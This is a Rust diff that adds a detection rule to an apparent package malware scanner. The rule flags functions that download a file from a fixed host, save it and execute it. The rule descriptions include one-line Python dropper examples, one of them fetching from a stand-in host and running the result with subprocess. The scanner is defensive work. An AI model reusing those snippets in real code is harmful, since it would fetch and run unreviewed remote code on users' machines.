@@ -201,6 +201,16 @@ correlation!(
     "def update(): data = urlopen(URL).read(); open(p, 'wb').write(data); subprocess.Popen([p])"
 );
 correlation!(
+    FUNCTION_FIXED_HOST_DROPPER,
+    "correlate/function-runs-program-from-fixed-host",
+    Critical,
+    Download,
+    Some("T1105"),
+    "One function downloads from a host written into it, writes the file and starts a program.",
+    "An updater or installer downloads what its caller or its configuration names; a function that fetches from a URL fixed in the package, saves it and runs it is a dropper whose second stage nobody can review.",
+    "def color(): r = requests.get('https://cdn.example.net/x'); open(p, 'wb').write(r.content); subprocess.run([p])"
+);
+correlation!(
     FUNCTION_RECON,
     "correlate/function-host-data-to-network",
     High,
@@ -254,6 +264,7 @@ correlation!(
 
 pub static ALL: &[&RuleInfo] = &[
     &FUNCTION_DROPPER,
+    &FUNCTION_FIXED_HOST_DROPPER,
     &FUNCTION_FETCH_EXEC,
     &FUNCTION_RECON,
     &FUNCTION_EXFILTRATION,
@@ -298,6 +309,9 @@ pub fn function_correlations(tags: &BTreeSet<String>) -> Vec<&'static RuleInfo> 
     let mut out: Vec<&'static RuleInfo> = Vec::new();
     if has("network") && has("file-write") && has("process") {
         out.push(&FUNCTION_DROPPER);
+        if has("url-literal") || has("fixed-endpoint") {
+            out.push(&FUNCTION_FIXED_HOST_DROPPER);
+        }
     }
     if has("network") && (has("sysinfo") || has("env-dump")) {
         out.push(&FUNCTION_RECON);
@@ -325,6 +339,7 @@ pub fn evidence_tags(rule: &RuleInfo) -> &'static [&'static str] {
         id if id == IMPORT_TIME_BEACON.id => &["fixed-endpoint"],
         id if id == IMPORT_TIME_INTERPRETER.id => &["inline-code"],
         id if id == FUNCTION_DROPPER.id => &["file-write", "process"],
+        id if id == FUNCTION_FIXED_HOST_DROPPER.id => &["url-literal", "fixed-endpoint"],
         id if id == FUNCTION_DECODE_EXEC.id => &["exec", "decode"],
         id if id == FUNCTION_FETCH_EXEC.id => &["exec", "network"],
         id if id == INSTALL_PROCESS.id => &["process"],
